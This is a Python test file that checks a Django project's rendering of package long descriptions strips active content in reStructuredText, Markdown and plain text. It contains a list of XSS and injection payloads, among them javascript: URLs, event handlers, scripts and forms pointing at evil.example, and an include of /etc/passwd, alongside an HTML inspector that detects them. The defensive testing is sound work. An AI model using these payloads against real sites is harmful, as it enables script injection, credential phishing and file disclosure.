"""Long descriptions render with readme-renderer and never carry active content, in any format."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.cache import cache

from projects.descriptions import (
    description_cache_key,
    description_html,
    parse_content_type,
    render_description,
)

FORMATS = ["", "text/x-rst", "text/markdown", "text/markdown; variant=CommonMark", "text/plain"]

# Each is a way in for script: a script or style element, an event handler, a javascript: or
# data: URL (plain, mixed case, entity-encoded, with whitespace), frames and embedded
# documents, SVG and MathML, forms, meta refresh and base, and the reStructuredText ways
# (raw HTML, links, images, includes). Each runs in every format.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "[click](javascript:alert(1))",
    "![img](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<style>body { display: none }</style>",
    '<div style="background: url(javascript:alert(1))">styled</div>',
    '<p onclick="alert(1)" onmouseover="alert(1)">handlers</p>',
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "Title\n=====\n\n.. raw:: html\n\n   <script>alert(1)</script>\n",
    "`click <javascript:alert(1)>`_",
    ".. image:: javascript:alert(1)\n",
    ".. image:: https://example.org/x.png\n   :target: javascript:alert(1)\n",
    ".. include:: /etc/passwd\n",
]
ACTIVE_ELEMENTS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "button",
    "textarea",
    "select",
    "meta",
    "base",
    "link",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset", "background"}
SAFE_SCHEMES = {"http", "https", "mailto", ""}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_ELEMENTS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                # HTMLParser has decoded entities already; browsers also drop control
                # characters and whitespace before the scheme.
                cleaned = "".join(ch for ch in value if ch > " ")
                if urlsplit(cleaned).scheme.lower() not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag == "input" and "disabled" not in dict(attrs):
            # Task-list checkboxes are kept, always disabled: nothing can be typed or posted.
            self.problems.append("an input that is not disabled")


def active_content(html: str) -> list[str]:
    """What in `html` could run script, load a frame, restyle or post the page; [] if none."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


@pytest.mark.parametrize("content_type", FORMATS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_rendering_in_any_format(payload, content_type):
    rendered = render_description(f"Intro.\n\n{payload}\n\nOutro.\n", content_type)
    if rendered is None:
        return  # refused at upload; the page shows it escaped (below)
    assert active_content(rendered) == [], rendered


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_description_that_cannot_render_is_shown_escaped(payload, db):
    shown = description_html(f"Bad\n===\n\n.. no-such-directive::\n\n{payload}\n", "")
    assert shown.startswith("<pre>")
    assert active_content(shown) == []


def test_the_inspector_finds_active_content():
    # The oracle itself must see what it is meant to see.
    assert active_content('<a href="javascript:alert(1)">x</a><p onclick="x">y</p>') != []
    assert active_content("<script></script><svg></svg>") != []
    assert active_content('<a href="https://example.org/">x</a>') == []


@pytest.mark.parametrize(
    ("text", "content_type", "expected"),
    [
        ("Title\n=====\n\nSome *emphasis*.\n", "", "<em>emphasis</em>"),
        ("# Title\n\nSome **bold**.\n", "text/markdown", "<strong>bold</strong>"),
        ("| a |\n|---|\n| b |\n", "text/markdown; variant=GFM", "<table>"),
        ("line one\nline <two>\n", "text/plain", "line one<br>line &lt;two&gt;"),
        ("`link <https://example.org/>`_", "text/x-rst", 'href="https://example.org/"'),
    ],
)
def test_each_format_renders(text, content_type, expected):
    rendered = render_description(text, content_type)
    assert rendered is not None
    assert expected in rendered


@pytest.mark.parametrize(
    "text",
    [
        "Bad\n===\n\n.. no-such-directive::\n",
        "Title\n=====\n\n.. raw:: html\n\n   <b>x</b>\n",
        "Title\n====\n\nUnderline too short above.\n",
        ".. a comment and nothing else\n",
    ],
)
def test_broken_restructuredtext_does_not_render(text):
    assert render_description(text, "text/x-rst") is None


def test_content_type_parameters_are_read():
    assert parse_content_type("text/markdown; charset=UTF-8; variant=CommonMark") == (
        "text/markdown",
        {"charset": "UTF-8", "variant": "CommonMark"},
    )
    assert parse_content_type("") == ("text/x-rst", {})


def test_rendered_html_is_kept_in_the_shared_cache(db):
    first = description_html("# Cached\n", "text/markdown")
    key = description_cache_key("# Cached\n", "text/markdown")
    assert "<h1" in first
    assert cache.get(key) == str(first)
    # What the cache holds is what the page shows: the renderer is not run again.
    cache.set(key, "<p>kept</p>")
    assert description_html("# Cached\n", "text/markdown") == "<p>kept</p>"
    assert description_cache_key("# Cached\n", "text/plain") != key
